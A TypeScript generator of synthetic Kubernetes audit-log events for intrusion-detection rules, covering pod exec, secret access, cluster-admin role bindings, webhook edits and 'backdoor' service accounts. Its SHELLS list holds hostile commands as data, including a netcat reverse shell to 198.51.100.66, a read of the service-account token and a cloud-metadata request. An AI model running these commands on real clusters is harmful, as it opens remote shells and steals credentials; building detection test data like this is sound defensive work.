import { APPNS, NS, SECRETS } from './names.ts';
import type { Row, Scene } from './scene.ts';

/** What rules look for: shells in pods, secrets, roles, webhooks, things that vanish. */
export function intrusions({ texts, clock, cluster, users, request }: Scene): readonly Row[] {
  const { uuid, hex, sfx, chance, pick } = texts;
  const { nextRv } = clock;
  const { DEPLOYS, PODS } = cluster;
  const { controller, CTRLS, PODSA, human } = users;
  return [
    [
      6,
      () => {
        const a = human();
        const p = pick(PODS);
        request({
          a,
          verb: chance(0.5) ? 'create' : 'get',
          ref: { resource: 'pods', namespace: p.ns, name: p.name, subresource: 'exec' },
          q: qcmd(pick(SHELLS)),
          code: 101,
          level: chance(0.5) ? 'Request' : 'Metadata',
        });
      },
    ],
    [
      2,
      () => {
        const a = human();
        const p = pick(PODS);
        request({
          a,
          verb: 'create',
          ref: { resource: 'pods', namespace: p.ns, name: p.name, subresource: pick(['attach', 'portforward']) },
          code: 101,
        });
      },
    ],
    [
      4,
      () => {
        const a = chance(0.5) ? human() : pick(PODSA);
        request({
          a,
          verb: 'list',
          ref: { resource: 'secrets', ...(chance(0.5) ? { namespace: pick(NS) } : {}) },
          q: '?limit=500',
          code: chance(0.4) ? 403 : 200,
        });
      },
    ],
    [
      3,
      () => {
        const a = human();
        request({
          a,
          verb: chance(0.5) ? 'get' : 'delete',
          ref: { resource: 'secrets', namespace: pick(APPNS), name: pick(SECRETS) },
          code: chance(0.3) ? 403 : 200,
        });
      },
    ],
    [
      2,
      () => {
        const a = human();
        const b = {
          kind: 'ClusterRoleBinding',
          apiVersion: 'rbac.authorization.k8s.io/v1',
          metadata: { name: `debug-${sfx(5)}` },
          subjects: [
            {
              kind: chance(0.5) ? 'ServiceAccount' : 'User',
              name: pick(['default', 'mallory', 'ci']),
              namespace: 'default',
            },
          ],
          roleRef: {
            apiGroup: 'rbac.authorization.k8s.io',
            kind: 'ClusterRole',
            name: chance(0.7) ? 'cluster-admin' : 'edit',
          },
        };
        request({
          a,
          verb: pick(['create', 'patch', 'delete']),
          ref: {
            resource: chance(0.7) ? 'clusterrolebindings' : 'rolebindings',
            name: b.metadata.name,
            apiGroup: 'rbac.authorization.k8s.io',
          },
          level: 'RequestResponse',
          req: b,
          res: { ...b, metadata: { ...b.metadata, uid: uuid(), resourceVersion: nextRv() } },
        });
      },
    ],
    [
      1,
      () => {
        const a = chance(0.5) ? human() : pick(CTRLS);
        request({
          a,
          verb: pick(['create', 'patch', 'update']),
          ref: {
            resource: chance(0.5) ? 'mutatingwebhookconfigurations' : 'validatingwebhookconfigurations',
            name: pick(['istio-sidecar-injector', 'gatekeeper', 'evil-hook']),
            apiGroup: 'admissionregistration.k8s.io',
          },
        });
      },
    ],
    [
      1.5,
      () => {
        const a = human();
        const d = pick(DEPLOYS);
        request({
          a,
          verb: 'delete',
          ref: { resource: 'deployments', namespace: d.ns, name: d.app, apiGroup: 'apps' },
        });
      },
    ],
    [
      1,
      () => {
        const a = human();
        request({
          a,
          verb: chance(0.5) ? 'delete' : 'deletecollection',
          ref: { resource: 'events', namespace: pick(NS), name: `x.${hex(16)}` },
        });
      },
    ],
    [
      1.5,
      () => {
        const a = chance(0.6) ? human() : controller('argocd-application-controller');
        request({
          a,
          verb: 'create',
          ref: { resource: 'serviceaccounts', namespace: pick(NS), name: pick(['backdoor', 'ci-runner', 'app']) },
        });
      },
    ],
  ];
}

const SHELLS = [
  ['sh'],
  ['/bin/bash'],
  ['/bin/sh', '-c', 'id'],
  ['bash', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'],
  ['/usr/bin/curl', '-k', 'https://169.254.169.254/'],
  ['nc', '-e', '/bin/sh', '198.51.100.66', '4444'],
];
const qcmd = (c: readonly string[]): string =>
  '?' +
  c.map((x) => 'command=' + encodeURIComponent(x).replace(/%2F/g, '%2F')).join('&') +
  '&container=app&stderr=true&stdin=true&stdout=true&tty=true';
